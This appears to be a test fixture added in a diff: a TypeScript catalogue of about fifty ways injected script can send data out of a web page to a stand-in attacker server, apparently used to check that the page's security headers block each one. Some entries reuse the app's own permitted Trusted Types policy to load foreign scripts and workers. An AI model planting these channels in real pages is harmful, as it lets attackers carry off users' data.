@@ -1,0 +1,259 @@
+declare const trustedTypes:
+  | {
+      createPolicy(
+        name: string,
+        rules: { createScriptURL(url: string): string },
+      ): { createScriptURL(url: string): unknown };
+    }
+  | undefined;
+
+/**
+ * Every way out of a page that we know, as a script that has got into our page would try it. `at` is the
+ * stranger's server and `port` its port; what these write into the address is what they would carry away.
+ * Each runs inside the browser, so it may use nothing from outside of itself.
+ */
+export const channels: Record<string, (target: { at: string; port: number }) => unknown> = {
+  fetch: ({ at }) => fetch(`${at}/fetch`),
+  'fetch without CORS': ({ at }) => fetch(`${at}/fetch`, { mode: 'no-cors', keepalive: true }),
+  XMLHttpRequest: ({ at }) => {
+    const request = new XMLHttpRequest();
+    request.open('GET', `${at}/xhr`);
+    request.send();
+  },
+  beacon: ({ at }) => navigator.sendBeacon(`${at}/beacon`, 'answers'),
+  WebSocket: ({ port }) => new WebSocket(`ws://127.0.0.1:${port}/socket`),
+  EventSource: ({ at }) => new EventSource(`${at}/events`),
+  WebTransport: ({ port }) => new WebTransport(`https://127.0.0.1:${port}/transport`).ready.catch(() => 0),
+  'WebRTC by STUN': async ({ port }) => {
+    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
+    peer.createDataChannel('answers');
+    await peer.setLocalDescription(await peer.createOffer());
+  },
+  image: ({ at }) => {
+    new Image().src = `${at}/image`;
+  },
+  'image of several sizes': ({ at }) => {
+    new Image().srcset = `${at}/image 1x`;
+  },
+  'image in SVG': ({ at }) => {
+    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
+    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
+    image.setAttribute('href', `${at}/svg`);
+    document.body.append(svg);
+    svg.append(image);
+  },
+  video: ({ at }) => {
+    const video = document.createElement('video');
+    video.src = `${at}/video`;
+    document.body.append(video);
+    video.load();
+  },
+  poster: ({ at }) => {
+    const video = document.createElement('video');
+    video.poster = `${at}/poster`;
+    document.body.append(video);
+  },
+  audio: ({ at }) => new Audio(`${at}/audio`).play().catch(() => 0),
+  'captions of a video': ({ at }) => {
+    const track = document.createElement('track');
+    track.src = `${at}/track`;
+    track.default = true;
+    const video = document.createElement('video');
+    video.crossOrigin = 'anonymous';
+    video.append(track);
+    document.body.append(video);
+    track.track.mode = 'showing';
+  },
+  stylesheet: ({ at }) => {
+    const link = document.createElement('link');
+    link.rel = 'stylesheet';
+    link.href = `${at}/style`;
+    document.head.append(link);
+  },
+  'import of a stylesheet': ({ at }) => {
+    const style = document.createElement('style');
+    style.textContent = `@import url(${at}/import);`;
+    document.head.append(style);
+  },
+  'background in a style': ({ at }) => {
+    document.body.style.backgroundImage = `url(${at}/background)`;
+  },
+  'style of an attribute': ({ at }) => {
+    document.body.setAttribute('style', `background-image: url(${at}/attribute)`);
+  },
+  'rule put into our own stylesheet': ({ at }) => {
+    document.styleSheets[0]?.insertRule(`body { background-image: url(${at}/rule) !important; }`);
+  },
+  font: ({ at }) => new FontFace('Stranger', `url(${at}/font)`).load().catch(() => 0),
+  script: ({ at }) => {
+    const script = document.createElement('script');
+    const allow = (policy: string) =>
+      typeof trustedTypes === 'undefined'
+        ? undefined
+        : trustedTypes.createPolicy(policy, { createScriptURL: (url) => url });
+    // The one policy that our own headers allow, as somebody who has read them would use it.
+    script.src = `${allow('app-sw')?.createScriptURL(`${at}/script`) ?? `${at}/script`}`;
+    document.head.append(script);
+  },
+  'script of a module': ({ at }) => import(/* @vite-ignore */ `${at}/module`).catch(() => 0),
+  'import map': ({ at }) => {
+    const map = document.createElement('script');
+    map.type = 'importmap';
+    map.textContent = JSON.stringify({ imports: { stranger: `${at}/mapped` } });
+    document.head.append(map);
+    const script = document.createElement('script');
+    script.type = 'module';
+    script.textContent = "import 'stranger'";
+    document.head.append(script);
+  },
+  'module fetched ahead': ({ at }) => {
+    const link = document.createElement('link');
+    link.rel = 'modulepreload';
+    link.href = `${at}/modulepreload`;
+    document.head.append(link);
+  },
+  preload: ({ at }) => {
+    const link = document.createElement('link');
+    link.rel = 'preload';
+    link.as = 'image';
+    link.href = `${at}/preload`;
+    document.head.append(link);
+  },
+  prefetch: ({ at }) => {
+    const link = document.createElement('link');
+    link.rel = 'prefetch';
+    link.href = `${at}/prefetch`;
+    document.head.append(link);
+  },
+  preconnect: ({ at }) => {
+    const link = document.createElement('link');
+    link.rel = 'preconnect';
+    link.href = at;
+    document.head.append(link);
+  },
+  'speculation rules': ({ at }) => {
+    const script = document.createElement('script');
+    script.type = 'speculationrules';
+    script.textContent = JSON.stringify({
+      prefetch: [{ source: 'list', urls: [`${at}/speculation`], eagerness: 'immediate' }],
+    });
+    document.head.append(script);
+  },
+  icon: ({ at }) => {
+    for (const link of document.querySelectorAll('link[rel=icon]')) link.remove();
+    const link = document.createElement('link');
+    link.rel = 'icon';
+    link.href = `${at}/icon`;
+    document.head.append(link);
+  },
+  manifest: ({ at }) => {
+    const link = document.createElement('link');
+    link.rel = 'manifest';
+    link.href = `${at}/manifest`;
+    document.head.append(link);
+  },
+  frame: ({ at }) => {
+    const frame = document.createElement('iframe');
+    frame.src = `${at}/frame`;
+    document.body.append(frame);
+  },
+  'frame that holds its own page': ({ at }) => {
+    const frame = document.createElement('iframe');
+    frame.srcdoc = `<img src="${at}/srcdoc">`;
+    document.body.append(frame);
+  },
+  object: ({ at }) => {
+    const object = document.createElement('object');
+    object.data = `${at}/object`;
+    document.body.append(object);
+  },
+  embed: ({ at }) => {
+    const embed = document.createElement('embed');
+    embed.src = `${at}/embed`;
+    document.body.append(embed);
+  },
+  form: ({ at }) => {
+    const form = document.createElement('form');
+    form.action = `${at}/form`;
+    form.method = 'post';
+    document.body.append(form);
+    form.submit();
+  },
+  'form into a frame': ({ at }) => {
+    const frame = document.createElement('iframe');
+    frame.name = 'inside';
+    const form = document.createElement('form');
+    form.action = `${at}/form`;
+    form.target = 'inside';
+    document.body.append(frame, form);
+    form.submit();
+  },
+  'another address': ({ at }) => location.assign(`${at}/assign`),
+  'another address in place of ours': ({ at }) => location.replace(`${at}/replace`),
+  'a link that is clicked': ({ at }) => {
+    const link = document.createElement('a');
+    link.href = `${at}/link`;
+    document.body.append(link);
+    link.click();
+  },
+  'a link that is downloaded': ({ at }) => {
+    const link = document.createElement('a');
+    link.href = `${at}/download`;
+    link.download = 'answers';
+    document.body.append(link);
+    link.click();
+  },
+  'a ping of a link': ({ at }) => {
+    const link = document.createElement('a');
+    link.href = '#main';
+    link.ping = `${at}/ping`;
+    document.body.append(link);
+    link.click();
+  },
+  'a refresh by meta': ({ at }) => {
+    const meta = document.createElement('meta');
+    meta.httpEquiv = 'refresh';
+    meta.content = `0;url=${at}/refresh`;
+    document.head.append(meta);
+  },
+  'a new window': ({ at }) => window.open(`${at}/window`),
+  'a worker that asks': ({ at }) => {
+    const allow = (policy: string) =>
+      typeof trustedTypes === 'undefined'
+        ? undefined
+        : trustedTypes.createPolicy(policy, { createScriptURL: (url) => url });
+    const path = `/stranger.js#${at}/worker`;
+    new Worker(`${allow('app-sw')?.createScriptURL(path) ?? path}`);
+  },
+  'a worker out of thin air': ({ at }) => {
+    const allow = (policy: string) =>
+      typeof trustedTypes === 'undefined'
+        ? undefined
+        : trustedTypes.createPolicy(policy, { createScriptURL: (url) => url });
+    const path = URL.createObjectURL(new Blob([`importScripts('${at}/blob')`]));
+    new Worker(`${allow('app-sw')?.createScriptURL(path) ?? path}`);
+  },
+  'a service worker that asks': ({ at }) => {
+    const allow = (policy: string) =>
+      typeof trustedTypes === 'undefined'
+        ? undefined
+        : trustedTypes.createPolicy(policy, { createScriptURL: (url) => url });
+    const path = `/stranger.js?${at}/service-worker`;
+    return navigator.serviceWorker.register(`${allow('app-sw')?.createScriptURL(path) ?? path}`);
+  },
+  'a report of the browser': ({ at }) => {
+    const meta = document.createElement('meta');
+    meta.httpEquiv = 'Content-Security-Policy';
+    meta.content = `img-src 'none'; report-uri ${at}/report`;
+    document.head.append(meta);
+    new Image().src = '/icon.svg?reported';
+  },
+};
+
+/** A script beside ours that a worker of the stranger runs: it asks for the address it was given. */
+export const strangersScript = `
+  const [, target] = self.location.href.split(/[#?]/);
+  const ask = () => fetch(target, { mode: 'no-cors' }).catch(() => undefined);
+  self.addEventListener('install', (event) => event.waitUntil(ask()));
+  ask();
+`;
